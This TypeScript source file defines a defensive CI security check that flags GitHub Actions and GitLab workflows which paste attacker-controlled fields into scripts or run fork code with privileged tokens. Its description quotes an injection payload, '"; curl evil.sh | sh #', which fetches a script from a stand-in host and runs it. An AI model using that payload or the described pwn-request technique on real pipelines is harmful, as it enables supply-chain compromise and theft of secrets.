import { defineCheck, type Outcome, type ResultBuilder } from '../../../src/core/check.js'
import type { CiWorkflow, WorkflowJob, WorkflowPermissions } from '../../../src/core/evidence.js'
import { describeInclude, findShellInjections, isGitLabPipeline, unreadIncludes } from '../shared/gitlab.js'
import { actionOf, describeStep, type LocatedStep, scriptLines, stepsOf } from '../shared/workflow.js'

/**
 * Event fields anyone can set by opening an issue, commenting, naming a branch or writing a commit message.
 * Numbers, SHAs and logins are safe; free text and branch names are not.
 */
const untrustedFields: RegExp[] = [
  /\bgithub\.head_ref\b/,
  /\bgithub\.event\.(?:issue|comment|review|review_comment|discussion|discussion_comment)\.(?:title|body)\b/,
  /\bgithub\.event\.pull_request\.(?:title|body|head\.ref|head\.label|head\.repo\.(?:default_branch|name|full_name|description|homepage))\b/,
  /\bgithub\.event\.pages\b\S*?\.page_name\b/,
  /\bgithub\.event\.(?:commits|head_commit)\b\S*?\.(?:message|author\.(?:name|email)|committer\.(?:name|email))\b/,
  /\bgithub\.event\.workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:name|email))|head_repository\.description)\b/,
  /\bgithub\.event\.workflow_run\.pull_requests\b\S*?\.head\.ref\b/,
  /\btoJSON\(\s*github\.event(?:\.(?:issue|pull_request|comment|review|review_comment|discussion|commits|head_commit|workflow_run))?\s*\)/i,
]

/** Triggers that run with secrets and a write token for events any GitHub user can cause. */
const privilegedTriggers = [
  'pull_request_target',
  'issue_comment',
  'issues',
  'discussion',
  'discussion_comment',
  'pull_request_review',
  'pull_request_review_comment',
  'workflow_run',
]

/** Triggers that run the base repository's workflow, token and secrets for a change from a fork. */
const pullRequestHeadTriggers = ['pull_request_target', 'workflow_run']

/** A checkout `ref:` that names the pull request's own commits rather than the base branch. */
const headRefs: RegExp[] = [
  /\bgithub\.event\.pull_request\.head\.(?:sha|ref)\b/,
  // The test merge of the head into the base: the fork's code as much as the head itself.
  /\bgithub\.event\.pull_request\.merge_commit_sha\b/,
  /\bgithub\.head_ref\b/,
  /\brefs\/pull\//,
  /\bgithub\.event\.workflow_run\.(?:head_sha|head_branch)\b/,
  /\bgithub\.event\.workflow_run\.pull_requests\b\S*?\.head\.(?:sha|ref)\b/,
]

/** A checkout `repository:` that names the fork the pull request comes from. */
const headRepositories: RegExp[] = [
  /\bgithub\.event\.pull_request\.head\.repo\.full_name\b/,
  /\bgithub\.event\.workflow_run\.head_repository\.full_name\b/,
]

/** Actions that execute code from the checked-out tree: a Dockerfile's RUN, package scripts, hooks, build files. */
const codeRunningActions = new Set([
  'docker/build-push-action',
  'docker/bake-action',
  'bahmutov/npm-install',
  'cypress-io/github-action',
  'pre-commit/action',
  'github/codeql-action/autobuild',
  'gradle/gradle-build-action',
  'borales/actions-yarn',
])

/** What a step runs from the checked-out tree, or undefined when it runs only code from elsewhere. */
function runsCheckedOutCode(located: LocatedStep): string | undefined {
  const { step } = located
  if (step.run !== undefined) return 'runs a script in it'
  if (step.uses?.trim().startsWith('./')) return 'runs a local action from it'
  const action = actionOf(step)
  return action !== undefined && codeRunningActions.has(action) ? `runs ${action} on it` : undefined
}

/** Script commands that fetch or check out a pull request's code without actions/checkout. */
const scriptCheckouts: RegExp[] = [
  /\bgh\s+pr\s+checkout\b/,
  /\bgit\s+fetch\b.*\bpull\/[^\s/]+\/(?:head|merge)\b/,
]

/** A script line that brings the pull request's head into the workspace, if any. */
function scriptCheckout(run: string): string | undefined {
  return scriptLines(run).find(
    (line) =>
      scriptCheckouts.some((pattern) => pattern.test(line)) ||
      (/\bgit\s+(?:fetch|checkout|switch|reset|pull)\b/.test(line) &&
        headRefs.some((pattern) => pattern.test(line))),
  )
}

/**
 * The ref or repository input that points a checkout at the pull request's head, or the script line
 * that checks it out (`gh pr checkout`, `git fetch origin pull/N/head`), if any.
 */
function headCheckout(located: LocatedStep): string | undefined {
  const { step } = located
  if (step.run !== undefined) {
    const line = scriptCheckout(step.run)
    return line === undefined ? undefined : `run: ${line.trim()}`
  }
  if (actionOf(step) !== 'actions/checkout') return undefined
  const ref = step.with.ref ?? ''
  if (headRefs.some((pattern) => pattern.test(ref))) return `ref: ${ref.trim()}`
  const repository = step.with.repository ?? ''
  if (headRepositories.some((pattern) => pattern.test(repository))) return `repository: ${repository.trim()}`
  return undefined
}

/** Why a job's token is not read-only, or undefined when every granted scope is read or none. */
function writableToken(permissions: WorkflowPermissions): string | undefined {
  if (permissions === undefined) {
    return "declares no permissions, so its token has the repository's default, which may be read-write"
  }
  if (permissions === 'read-all') return undefined
  if (permissions === 'write-all') return 'grants write-all'
  const writes = Object.entries(permissions).filter(
    ([, level]) => level.trim() !== 'read' && level.trim() !== 'none',
  )
  return writes.length === 0
    ? undefined
    : // Worded "write on id-token" rather than "id-token: write", which reads as a credential assignment.
      `grants ${writes.map(([scope, level]) => `${level} on ${scope}`).join(', ')}`
}

const secretReference = /\bsecrets\s*[.[]/

/** Whether any step of the job hands a repository or organisation secret to the runner. */
function referencesSecrets(job: WorkflowJob): boolean {
  return job.steps.some((step) =>
    [step.run ?? '', ...Object.values(step.with), ...Object.values(step.env)].some((text) =>
      secretReference.test(text),
    ),
  )
}

interface HeadExecution {
  checkout: LocatedStep
  input: string
  runner: LocatedStep
  how: string
  /** Why the run is privileged; empty when the token is read-only and no secret is referenced. */
  privileges: string[]
}

/**
 * Jobs of a pull_request_target or workflow_run workflow that check out the pull request's head and
 * then run something from it: the "pwn request". The code is the fork author's; the token and
 * secrets are the target repository's.
 */
function headExecutions(workflow: CiWorkflow): HeadExecution[] {
  if (!workflow.triggers.some((trigger) => pullRequestHeadTriggers.includes(trigger))) return []
  return workflow.jobs.flatMap((job) => {
    const steps = job.steps.map((step) => ({ job, step }))
    const index = steps.findIndex((located) => headCheckout(located) !== undefined)
    const checkout = steps[index]
    if (checkout === undefined) return []
    const runner = steps.slice(index + 1).find((located) => runsCheckedOutCode(located) !== undefined)
    if (runner === undefined) return []
    const privileges: string[] = []
    const token = writableToken(job.permissions ?? workflow.permissions)
    if (token !== undefined) privileges.push(`job ${job.id} ${token}`)
    if (referencesSecrets(job)) privileges.push(`job ${job.id} references secrets`)
    return [
      {
        checkout,
        input: headCheckout(checkout) ?? '',
        runner,
        how: runsCheckedOutCode(runner) ?? '',
        privileges,
      },
    ]
  })
}

function describeExecution(execution: HeadExecution, triggers: string): string {
  return `${describeStep(execution.checkout)} checks out the pull request's code (${execution.input}) on ${triggers} and ${describeStep(execution.runner)} ${execution.how}`
}

interface Interpolation {
  located: LocatedStep
  expression: string
  where: string
}

function isUntrusted(expression: string): boolean {
  return untrustedFields.some((field) => field.test(expression))
}

/** `env.NAME` references of an expression, lower case (GitHub contexts ignore case). */
function envReferences(expression: string): string[] {
  return [...expression.matchAll(/\benv\.([A-Za-z_][\w-]*)/g)].flatMap((match) =>
    match[1] === undefined ? [] : [match[1].toLowerCase()],
  )
}

/**
 * Variables of the step's environment (workflow, job or step `env:`) set from attacker-controlled
 * fields. Read in the shell as `"$TITLE"` they are data; written `${{ env.TITLE }}` in a script,
 * GitHub pastes their text into it before the shell runs, just as it would the field itself.
 */
function taintedEnv(step: LocatedStep['step']): Set<string> {
  return new Set(
    Object.entries(step.env).flatMap(([name, value]) =>
      [...value.matchAll(/\$\{\{([\s\S]*?)\}\}/g)].some((match) => isUntrusted(match[1] ?? ''))
        ? [name.toLowerCase()]
        : [],
    ),
  )
}

function interpolations(located: LocatedStep): Interpolation[] {
  const { step } = located
  const scripts: { text: string; where: string }[] = []
  if (step.run !== undefined) scripts.push({ text: step.run, where: 'run' })
  const script = step.with.script
  if (actionOf(step) === 'actions/github-script' && script !== undefined) {
    scripts.push({ text: script, where: 'github-script' })
  }
  const tainted = taintedEnv(step)
  return scripts.flatMap(({ text, where }) =>
    [...text.matchAll(/\$\{\{([\s\S]*?)\}\}/g)]
      .filter(
        (match) => isUntrusted(match[1] ?? '') || envReferences(match[1] ?? '').some((n) => tainted.has(n)),
      )
      .map((match) => ({ located, expression: match[0].replace(/\s+/g, ' '), where })),
  )
}

/**
 * GitLab hands `$CI_COMMIT_MESSAGE` to the shell unexpanded, so there is no template injection; the
 * shell expands it as data unless the script parses it a second time as code.
 */
function evaluateGitLab(
  workflow: CiWorkflow,
  collected: readonly CiWorkflow[],
  result: ResultBuilder,
): Outcome {
  const seen = new Set<string>()
  const found = workflow.jobs
    .flatMap((job) => {
      const injections = findShellInjections(
        job.steps.map((step) => step.script),
        job.steps[0]?.env ?? {},
      )
      return job.steps.flatMap((step, index) =>
        (injections[index] ?? []).map((injection) => ({ located: { job, step }, ...injection })),
      )
    })
    // A default before_script is a step of every job; report each line once.
    .filter(({ located, variable, via }) => {
      const key = `${located.step.line} ${variable} ${via}`
      if (seen.has(key)) return false
      seen.add(key)
      return true
    })
    .sort((a, b) => a.located.step.line - b.located.step.line)
  const first = found[0]
  // A script line the parser could not read may run anything: no pass on what was not read.
  const unread = stepsOf(workflow).filter(({ step }) => step.script?.parsed !== true)
  if (first === undefined && unread.length > 0) {
    return result.undetermined(
      workflow,
      `cannot tell whether scripts run attacker-controlled CI variables as code: ${unread
        .map((located) => {
          const script = located.step.script
          const reason = script?.parsed === false ? script.reason : 'the evidence holds no parsed commands'
          return `${describeStep(located)} could not be read (${reason})`
        })
        .join('; ')}`,
    )
  }
  const notRead = unreadIncludes(workflow, collected)
  if (first === undefined && notRead.length > 0) {
    return result.undetermined(
      workflow,
      `no script read runs attacker-controlled CI variables as code, but the pipeline includes configuration that was not read, whose jobs and the scripts its own jobs inherit through extends may: ${notRead.map(describeInclude).join('; ')}`,
    )
  }
  if (first === undefined) {
    return result.pass(
      workflow,
      'no script runs attacker-controlled CI variables (commit message, merge request title, branch name) as code through eval, sh -c or a pipe into a shell',
    )
  }
  const risk = workflow.triggers.includes('merge_request_event')
    ? '; the pipeline runs for merge requests, whose title, description and source branch their author chooses'
    : ''
  return result.fail(
    workflow,
    `runs attacker-controlled CI variables as shell code: ${found
      .map((entry) => {
        const copy = entry.from === undefined ? '' : ` (a copy of $${entry.from})`
        return `$${entry.variable}${copy} through ${entry.via} in ${describeStep(entry.located)}`
      })
      .join('; ')}${risk}`,
    { line: first.located.step.line },
  )
}

export default defineCheck({
  id: 'ci/workflow-untrusted-input-not-interpolated',
  title: 'Workflows do not run text or code supplied by outsiders with repository privileges',
  description:
    // biome-ignore lint/suspicious/noTemplateCurlyInString: GitHub expression syntax, not a JavaScript placeholder
    'GitHub substitutes `${{ … }}` into a script before the shell runs it, so an issue title, comment, ' +
    'branch name or commit message containing `"; curl evil.sh | sh #` becomes a command in your pipeline. ' +
    'Anyone on GitHub can set those fields; on pull_request_target, issue_comment and similar triggers the job ' +
    'also holds secrets and a write token. GitLab passes variables such as `$CI_MERGE_REQUEST_TITLE` to the ' +
    'shell unexpanded, so they are data unless a script parses them again as code with `eval`, `sh -c "…"` or ' +
    'a pipe into a shell. The same holds for code: a pull_request_target (or workflow_run) workflow that checks ' +
    "out the pull request's head (`ref:` set to `github.event.pull_request.head.sha`, its `merge_commit_sha`, " +
    '`github.head_ref` or `refs/pull/…`, or `gh pr checkout` and `git fetch … pull/N/head` in a script) and then runs a script, a local action, a Docker build or package scripts runs the fork ' +
    "author's code with the target repository's token and secrets. Such a job passes only when its token is " +
    'read-only and no step references a secret, and is still reported with a warning. This is the input ' +
    'validation control of secure development (OWASP injection), applied to the build system.',
  remediation:
    'Pass the value through an environment variable and quote it in the script: `env: { TITLE: ${{ ' +
    'github.event.issue.title }} }` then `echo "$TITLE"` (not as an `env.TITLE` expression in the script, which pastes the text in again). In actions/github-script read it from ' +
    '`context.payload` instead of interpolating. Build and test pull request code on `pull_request`, which ' +
    'runs forks without secrets and with a read-only token; if a privileged step must follow (a comment, a ' +
    'label, a deploy preview), run it in a separate workflow_run or pull_request_target job that only ' +
    'downloads the results as data and never checks out or executes the head. Where a pull_request_target ' +
    'job must run the head, give it `permissions: { contents: read }` and no secrets. In GitLab, use the variable directly and quoted (`echo "$CI_COMMIT_TITLE"`); ' +
    'where a shell must run it, pass it as a positional parameter: `sh -c \'echo "$1"\' _ "$CI_COMMIT_TITLE"`.',
  severity: 'high',
  reads: ['ci.workflow'],
  evaluate({ evidence, result }) {
    return evidence['ci.workflow'].map((workflow) => {
      if (isGitLabPipeline(workflow)) return evaluateGitLab(workflow, evidence['ci.workflow'], result)
      const found = stepsOf(workflow).flatMap(interpolations)
      const privileged = workflow.triggers.filter((trigger) => privilegedTriggers.includes(trigger))
      const headTriggers = workflow.triggers
        .filter((trigger) => pullRequestHeadTriggers.includes(trigger))
        .join(', ')
      const executions = headExecutions(workflow)
      const exposed = executions.filter((execution) => execution.privileges.length > 0)
      const contained = executions.filter((execution) => execution.privileges.length === 0)
      const warning =
        contained.length === 0
          ? ''
          : `; warning: ${contained
              .map((execution) => describeExecution(execution, headTriggers))
              .join(
                '; ',
              )}: the token is read-only and no step references secrets, but outsiders' code still runs on your runner and can poison the Actions cache the base branch reads, so keep it that way or move the job to pull_request`
      const problems: { line: number; text: string }[] = []
      if (found.length > 0) {
        const risk =
          privileged.length > 0
            ? `; the workflow runs on ${privileged.join(', ')}, which any GitHub user can trigger and which runs with the repository's secrets and token`
            : ''
        problems.push({
          line: found[0]?.located.step.line ?? 1,
          text: `interpolates attacker-controlled input into scripts: ${found
            .map((entry) => `${entry.expression} in ${entry.where} of ${describeStep(entry.located)}`)
            .join('; ')}${risk}`,
        })
      }
      for (const execution of exposed) {
        problems.push({
          line: execution.checkout.step.line,
          text: `runs an outsider's code with the repository's privileges: ${describeExecution(execution, headTriggers)}, while ${execution.privileges.join(' and ')}`,
        })
      }
      if (problems.length === 0) {
        return result.pass(
          workflow,
          `no run script or github-script interpolates attacker-controlled event fields, and no privileged job runs pull request code${warning}`,
        )
      }
      problems.sort((a, b) => a.line - b.line)
      return result.fail(workflow, `${problems.map((problem) => problem.text).join('; ')}${warning}`, {
        line: problems[0]?.line ?? 1,
      })
    })
  },
})
